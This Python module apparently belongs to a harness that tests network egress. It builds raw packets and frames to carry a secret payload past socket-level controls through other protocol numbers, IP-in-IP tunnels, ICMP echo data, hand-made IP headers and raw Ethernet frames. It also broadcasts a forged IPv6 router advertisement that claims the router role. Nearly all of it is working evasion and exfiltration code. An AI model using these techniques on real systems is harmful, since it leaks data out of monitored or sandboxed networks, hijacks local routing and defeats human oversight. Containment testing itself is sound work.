"""Techniques below sockets of TCP and UDP: other protocols, headers and frames of one's own. Stdlib only.

Each answers `sent` once the kernel took it: nothing comes back, receivers count what arrived.
"""

from __future__ import annotations

import socket
import struct

from bypass_table import SECRET, attempt, family

SENT = "sent"
UDP, TCP, ICMP6 = 17, 6, 58


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data + data[: len(data) % 2]) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address: str) -> bytes:
    return socket.inet_pton(family(address), address)


def summed(source: str, to: str, proto: int, data: bytes, at: int) -> bytes:
    """`data` with the checksum over the pseudo-header put at `at`."""
    pseudo = packed(source) + packed(to) + struct.pack("!IHH", len(data), 0, proto)
    return data[:at] + struct.pack("!H", checksum(pseudo + data)) + data[at + 2 :]


def datagram(source: str, to: str, port: str) -> bytes:
    head = struct.pack("!HHHH", 4444, int(port), 8 + len(SECRET), 0)
    return packet(source, to, UDP, summed(source, to, UDP, head + SECRET, 6))


def syn(source: str, to: str, port: str) -> bytes:
    head = struct.pack("!HHIIBBHHH", 4444, int(port), 1, 0, 0x50, 2, 1024, 0, 0)
    return packet(source, to, TCP, summed(source, to, TCP, head + SECRET, 16))


def packet(source: str, to: str, proto: int, data: bytes) -> bytes:
    if family(to) == socket.AF_INET6:
        return struct.pack("!IHBB", 0x6000_0000, len(data), proto, 255) + packed(source) + packed(to) + data
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(data), 1, 0, 64, proto, 0) + packed(source) + packed(to)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + data


def raw(to: str, proto: int) -> socket.socket:
    return socket.socket(family(to), socket.SOCK_RAW, proto)


@attempt
def protocol(to: str, number: str) -> str:
    """A packet of another transport: only its number and some bytes."""
    with raw(to, int(number)) as sock:
        sock.sendto(struct.pack("!HHHH", 4444, 443, 8 + len(SECRET), 0) + SECRET, (to, 0))
    return SENT


@attempt
def inside_ip(source: str, to: str, inner: str) -> str:
    """A whole packet for `inner` as what a packet to `to` carries (RFC 2003, RFC 4213)."""
    with raw(to, 41 if ":" in inner else 4) as sock:
        sock.sendto(datagram(source, inner, "443"), (to, 0))
    return SENT


@attempt
def echo_request(to: str) -> str:
    data = struct.pack("!BBHHH", 128 if ":" in to else 8, 0, 0, 7, 1) + SECRET
    if ":" not in to:
        data = data[:2] + struct.pack("!H", checksum(data)) + data[4:]
    with raw(to, ICMP6 if ":" in to else 1) as sock:
        sock.sendto(data, (to, 0))
    return SENT


@attempt
def ping_socket(to: str) -> str:
    with socket.socket(family(to), socket.SOCK_DGRAM, ICMP6 if ":" in to else 1) as sock:
        sock.sendto(struct.pack("!BBHHH", 128 if ":" in to else 8, 0, 0, 7, 1) + SECRET, (to, 0))
    return SENT


@attempt
def own_header(what: str, source: str, to: str, port: str) -> str:
    with raw(to, 255) as sock:
        if ":" in to:
            sock.setsockopt(socket.IPPROTO_IPV6, 36, 1)  # IPV6_HDRINCL
        sock.sendto({"udp": datagram, "syn": syn}[what](source, to, port), (to, 0))
    return SENT


@attempt
def frame(what: str, source: str, to: str, port: str, mac: str, gateway_mac: str) -> str:
    """Past every hook for sockets."""
    send_frame({"udp": datagram, "syn": syn}[what](source, to, port), to, mac, gateway_mac)
    return SENT


@attempt
def router_advertisement(source: str, mac: str, gateway_mac: str) -> str:
    """ "I am the router, for an hour" to all nodes (RFC 4861, 4.2)."""
    data = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 3600, 0, 0)
    advert = packet(source, "ff02::1", ICMP6, summed(source, "ff02::1", ICMP6, data, 2))
    send_frame(advert, "ff02::1", mac, "33:33:00:00:00:01")
    send_frame(advert, "ff02::1", mac, gateway_mac)
    return SENT


def send_frame(data: bytes, to: str, mac: str, gateway_mac: str) -> None:
    kind = struct.pack("!H", 0x86DD if ":" in to else 0x0800)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        sock.send(bytes.fromhex(gateway_mac.replace(":", "") + mac.replace(":", "")) + kind + data)
